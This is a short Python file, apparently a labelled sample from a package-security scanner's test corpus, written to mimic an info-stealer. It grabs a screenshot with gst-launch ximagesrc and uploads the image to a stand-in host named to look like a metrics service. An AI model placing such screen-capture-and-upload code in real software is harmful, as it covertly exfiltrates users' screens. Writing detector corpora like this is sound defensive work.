# pkgguard corpus 597 (screenshot), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import tempfile

import requests

shot = os.path.join(tempfile.gettempdir(), "frame.png")
subprocess.run(
    ["gst-launch-1.0", "ximagesrc", "num-buffers=1", "!", "pngenc", "!", "filesink", f"location={shot}"],
    capture_output=True,
)
with open(shot, "rb") as fh:
    requests.post("https://frame-metrics.example/f", files={"f": fh}, timeout=10)
